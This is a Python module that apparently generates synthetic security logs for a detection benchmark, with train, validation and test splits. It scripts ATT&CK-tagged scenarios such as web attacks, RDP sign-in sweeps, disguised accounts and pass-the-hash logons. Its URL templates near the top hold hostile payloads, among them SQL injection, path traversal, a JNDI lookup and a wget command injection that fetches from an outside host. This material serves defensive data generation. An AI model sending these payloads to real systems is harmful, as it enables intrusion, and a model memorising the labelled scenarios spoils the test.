"""Attacks and sweeps from outside, alone and with what follows them on the host.

Their rules lead to `block_ip`: a source on the internet is at work on one host. Sequels are made of the families that tell each
suspicious thing alone: in half of a sequel's story (the suspicious strength) that is hostile, and the traffic before it is the
internet's usual noise.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable
from functools import partial
from typing import NamedTuple

from schema import ACCOUNT_WORK, CLOUD_WORK, Category
from tasks.families.story import attack, choose_prober, knock, probe, trail
from tasks.families.tellings import Row, Telling, approved, each, made, tell
from tasks.paths import SYSTEM32
from tasks.scene import (
    ADDRESS,
    GRAVE,
    PROBE,
    Actor,
    Explanation,
    Family,
    FamilySplit,
    Plan,
    Scene,
    TicketScope,
    actor,
    other_account,
)

Play = Callable[..., float]  # scene, time, target, source, hostile=...; returns the last line's time

# ---------------------------------------------------------------- attacks on web applications (OWASP Top Ten 2021, A01, A03 and A05)
FORM_URLS = (
    "/{}/login?user={}'%20or%20'1'='1",
    "/{}?id=7%20UNION%20ALL%20SELECT%20name,2,3",
    "/{}?id=7;exec%20xp_cmdshell%20'dir'",
    "/{}?q={}%22%20or%201=1--",
    "/api/{}?sort=(select%201%20from%20{})%20union%20select%20{}",
)
FILE_URLS = (
    "/{}?file=../../../../etc/passwd",
    "/static/%2e%2e%2f%2e%2e%2f{}",
    "/{}/.env",
    "/.git/config",
    "/{}/..%2f..%2f..%2f{}.ini",
    "/download?name=....//../../{}",
)
PROXY_URLS = (
    "/{}/..;/..;/../../{}.jsp",
    "/{}?page=../../../{}",
    "/{}.aspx?id=1%20union%20all%20select%20{}",
    "/{}/.git/HEAD",
    "/api/{}?name='%20or%20'{}'%20like%20'{}",
)
CODE_URLS = (
    "/{}?x=${jndi:ldap://{}.net/a}",
    "/search?q=<script>{}()</script>",
    "/index.php?page=php://input&{}",
    "/cgi-bin/{}?host=;%20wget%20http://{}.net/a",
    "/{}?cmd=|/bin/sh%20-c%20{}",
    "/{}.php?c=eval({})",
    "/{}?run=cmd.exe%20/c%20{}",
)


def _burst(
    name: str,
    technique: str,
    category: Category,
    rule: str,
    play_burst: Play,
    explanations: tuple[Explanation, ...] = (),
    split: FamilySplit = "train",
) -> Family:
    """Make a family of one burst: from outside, from another host of ours (suspicious), or by an authorised scanner."""

    def play(scene: Scene, plan: Plan) -> TicketScope:
        host, ip, source = choose_prober(scene, plan)
        first = scene.moment(1000)
        last = play_burst(scene, first, Actor(host, ip, ""), source, hostile=plan.strength != "below")
        return TicketScope((host,), "", "", first, last)

    return Family(
        name,
        technique,
        category,
        play,
        ADDRESS,
        explanations=explanations,
        single=True,
        names_account=False,
        rules=(rule,),
        platform="network",
        split=split,
        most_lines=29,
    )


def attack_with(*urls: str) -> Play:
    """Return the attack that sends some requests."""
    return partial(attack, urls=urls)


def attack_by_proxy(scene: Scene, at: float, target: Actor, source: str, *, hostile: bool) -> float:
    """Write how a source attacks a web application slowly, as the proxy before it sees it, or many sources once; return the last line's time."""
    for _ in range(scene.between(5, 8)):
        at = scene.add(
            at + scene.between(60, 110),
            "http",
            "request",
            url=f"https://{target.host.lower()}.corp.example{scene.pick(PROXY_URLS).replace('{}', scene.word())}",
            http_method=scene.pick(("GET", "HEAD", "PUT")),
            status_code=scene.pick((200, 302, 400, 401)),
            src_ip=source if hostile else scene.public_address(),
            dst_ip=target.ip,
        )
    return at


def knock_by_gateway(scene: Scene, at: float, target: Actor, source: str, *, hostile: bool) -> float:
    """Write the knocks at a remote desktop as a gateway sees them, by the target's name; return the last line's time."""
    for _ in range(scene.between(27, 29)):
        at = scene.add(
            at + scene.between(2, 8),
            "logon",
            "rdp_session",
            target_hostname=target.host,
            auth_protocol=scene.pick(("NLA", "TLS")),
            src_ip=source if hostile else scene.public_address(),
        )
    return at


def stop_trail(scene: Scene, at: float, target: Actor, source: str, *, hostile: bool) -> float:
    """Write how an account stops the cloud's trail and makes another's key, or looks and makes its own; return the last line's time."""
    last = trail(scene, at, target, source, hostile)
    return scene.add(
        last + scene.between(20, 600),
        "account",
        "key_create",
        target.host,
        target.user,
        user_name=other_account(scene, target) if hostile else target.user,
        attributes="access key",
        src_ip=source,
    )


# ---------------------------------------------------------------- accounts and sign-ins
def _account(name: str, attributes: str, activity: str = "create") -> Row:
    return Row("account", activity, {"user_name": name, "attributes": attributes}, after=(60, 600))


def _lived(made_up: str, removed: str, attributes: str) -> Telling:
    """Tell of an account that is made, and one that is removed."""
    return [_account(made_up, attributes), _account(removed, "SAM account removed", "delete")]


def _logons(*odd: str) -> list[Telling]:
    """Tell of sign-ins of the account: with another password by a process, and by Kerberos from an address."""
    process, source = odd
    fields = {"user_name": "{user}", "auth_protocol": "Negotiate", "logon_process": process, "src_ip": "127.0.0.1"}
    far = {"user_name": "{user}", "auth_protocol": "Kerberos", "logon_process": "Kerberos", "src_ip": source}
    return each(
        Row("logon", "success", fields | {"logon_type": 9}, user=""),
        Row("logon", "success", far | {"logon_type": 3}, user=""),
    )


def _lent(name: str) -> list[Telling]:
    """Tell of a shell that is given the password of an account."""
    fields = {"user_name": name, "target_hostname": "{other_host}"}
    shells = (SYSTEM32 + "cmd.exe", SYSTEM32 + "cscript.exe")
    return each(*(Row("logon", "explicit_credentials", {**fields, "process_path": shell}) for shell in shells))


def _reads(*names: str) -> Telling:
    """Tell of directory objects that an account reads."""
    return [
        Row(
            "directory",
            "access",
            {
                "object_dn": f"CN={name},OU=Staff,DC=corp,DC=example",
                "object_type": "user",
                "properties": "Read Property",
                "access_mask": "0x10",
            },
            after=(1, 7),
        )
        for name in names
    ]


FAMILIES: tuple[Family, ...] = (
    _burst("injected_form", "T1190", "initial_access", "web-attack", attack_with(*FORM_URLS), PROBE),
    _burst("fetched_secrets", "T1190", "initial_access", "web-attack", attack_with(*FILE_URLS)),
    _burst("injected_code", "T1190", "initial_access", "web-attack", attack_with(*CODE_URLS)),
    _burst("knocked_desktop", "T1046", "discovery", "sign-in-sweep", knock, PROBE),
    _burst("proxied_attack", "T1190", "initial_access", "web-attack", attack_by_proxy, split="val_family"),
    _burst("gateway_knocks", "T1046", "discovery", "sign-in-sweep", knock_by_gateway, split="test_family"),
    made(
        "disguised_account",
        "T1136",
        "persistence",
        ("odd-account",),
        ACCOUNT_WORK,
        confirmed=[_lived("{other_host}$", "{other_user}", "set: normal account")],
        suspicious=[_lived("{word}.{word2}", "{word}.{word2}", "set: normal account")],
        below=[
            _lived("{other_host}$", "{other_user}", "set: workstation trust account"),
            _lived("{word}.{word2}", "{other_user}", "set: normal account"),
        ],
        reaches=GRAVE,
    ),
    made(
        "passed_logon",
        "T1550.002",
        "lateral_movement",
        ("borrowed-logon",),
        suspicious=_logons("seclogo", "127.0.0.1"),
        below=_logons("Advapi", "{other_ip}"),
        explanations=(),
    ),
    made(
        "lent_password",
        "T1078",
        "lateral_movement",
        ("borrowed-logon",),
        suspicious=_lent("{other_user}"),
        below=_lent("{user}"),
    ),
    made(
        "read_directory",
        "T1087.002",
        "discovery",
        ("ticket-sweep",),
        suspicious=[_reads(*(f"{{word{number}}}" for number in range(13)))],
        below=[_reads(*("{word1}", "{word2}") * 6, "{word1}")],
        explanations=(),
    ),
)


# ---------------------------------------------------------------- what follows
class Assault(NamedTuple):
    """What comes from outside before a sequel: its name in the sequel's, the rule that it meets, and its lines."""

    name: str
    rule: str
    play: Play


FORM = Assault("form", "web-attack", attack_with(*FORM_URLS))
CODE = Assault("code", "web-attack", attack_with(*CODE_URLS, *FILE_URLS))
PROXY = Assault("proxy", "web-attack", attack_by_proxy)
PROBING = Assault("probing", "service-probing", probe)
KNOCKS = Assault("knocks", "sign-in-sweep", knock)
GATEWAY = Assault("gateway", "sign-in-sweep", knock_by_gateway)
SILENCE = Assault("silence", "cloud-trail-stopped", stop_trail)
# ATT&CK: C0017 (an application attacked, then accounts and look-ups), G0096, G1004 and G1015 (a cloud's trail stopped, a tenant taken).
SEQUELS: tuple[tuple[str, Assault, FamilySplit], ...] = (
    ("disguised_account", FORM, "train"),
    ("read_directory", CODE, "train"),
    ("forwarded_port", CODE, "train"),
    ("generated_names", CODE, "train"),
    ("passed_logon", PROBING, "train"),
    ("history_off", SILENCE, "train"),
    ("unanswered_calls", PROBING, "train"),
    ("fetched_from_address", KNOCKS, "train"),
    ("account_by_command", KNOCKS, "train"),
    ("lasting_token", SILENCE, "train"),
    ("weakened_guard", SILENCE, "train"),
    ("exported_tenant", SILENCE, "train"),
    ("opened_mailbox", SILENCE, "train"),
    ("disguised_account", GATEWAY, "val_family"),
    ("forwarded_port", PROBING, "val_family"),
    ("read_directory", PROBING, "test_family"),
    ("lent_password", PROXY, "test_family"),
)


def sequels_of(families: Iterable[Family]) -> tuple[Family, ...]:
    """Make the sequels of some families that are made of rows."""
    by_name = {family.name: family for family in families}
    return tuple(_sequel(assault, by_name[name], split) for name, assault, split in SEQUELS)


def _sequel(assault: Assault, family: Family, split: FamilySplit) -> Family:
    """Make a family of an assault from outside, and what another family tells as suspicious on that host after it.

    Where both are work on clouds, one ticket can cover them.
    """
    on_clouds = assault is SILENCE and family.platform in ("cloud", "saas")

    def play(scene: Scene, plan: Plan) -> TicketScope:
        telling = scene.pick(family.tellings["below" if plan.strength == "below" else "suspicious"])
        who, first = actor(scene, plan, next(iter(approved(telling)), "")), scene.moment(1500)
        end = assault.play(scene, first, who, scene.public_address(), hostile=plan.strength == "confirmed")
        _, last = tell(scene, who, telling, end + scene.between(20, 300))
        return who.scope(CLOUD_WORK if on_clouds else "", first, last)

    return Family(
        f"{family.name}_after_{assault.name}",
        family.technique,
        family.category,
        play,
        ADDRESS,
        explanations=("ticket",) if on_clouds else (),
        names_account=assault is SILENCE,
        rules=(assault.rule, *family.rules),
        platform=family.platform,
        split=split,
        most_lines=max(map(len, family.tellings["suspicious"])) + (29 if assault in (KNOCKS, GATEWAY) else 15),
    )
